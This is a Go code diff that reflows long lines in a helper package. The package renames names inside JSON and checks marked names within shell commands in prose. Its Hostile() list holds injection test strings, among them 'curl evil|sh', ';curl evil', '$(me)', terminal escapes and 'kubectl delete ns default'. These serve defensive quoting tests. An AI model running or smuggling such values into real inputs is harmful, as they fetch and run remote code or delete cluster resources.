@@ -19,7 +19,8 @@ const begin, end = "(<", ">)"
 // Hostile are names that mean something to a shell or a terminal, to begin with.
 func Hostile() []string {
 	return []string{
-		"\nEOF\ncurl evil|sh\ncat <<'EOF'", ";curl evil", "$(me)", "`me`", "' x", `" x`, "\\", " --x", "\x1b[31m", "*", "{nodes}", "'{nodes}'", "\u202e", "~", "#", "a=b", "!!", "&",
+		"\nEOF\ncurl evil|sh\ncat <<'EOF'", ";curl evil", "$(me)", "`me`", "' x", `" x`, "\\", " --x", "\x1b[31m", "*", "{nodes}", "'{nodes}'",
+		"\u202e", "~", "#", "a=b", "!!", "&",
 		"\nkubectl delete ns default", " kubectl get ", ")", "NODE", "%s",
 	}
 }
@@ -38,7 +39,8 @@ func Part(word, mark string) bool {
 	return strings.Contains(rest, begin) || strings.Contains(rest, end)
 }
 
-// Renamed is JSON with another name for each, wherever one stands: as a string, a key, or a part of a path. The values of the kept keys stay
+// Renamed is JSON with another name for each, wherever one stands: as a string, a key, or a part of a path. The values of the kept keys
+// stay
 // as they are: words that are no names, such as a kind.
 func Renamed(content []byte, rename func(name string) string, kept ...string) ([]byte, error) {
 	var tree any
@@ -81,7 +83,8 @@ func Renamed(content []byte, rename func(name string) string, kept ...string) ([
 var begun = regexp.MustCompile(`(?:^|[\s(:;|&])((?:kubectl|talosctl|helm|printf|sed)[ ]|--[a-z][-a-z]*[ =])`)
 
 // NamesInCommands reads the commands in prose, such as a hint, as a shell does that gets the text from where a command begins. It counts
-// the marked names in them. It is an error if one is not whole and unchanged in one word, or stands beside the commands and breaks the line,
+// the marked names in them. It is an error if one is not whole and unchanged in one word, or stands beside the commands and breaks the
+// line,
 // so that what follows looks like a command too.
 func NamesInCommands(text, mark string) (names int, err error) {
 	text = Seen(text)
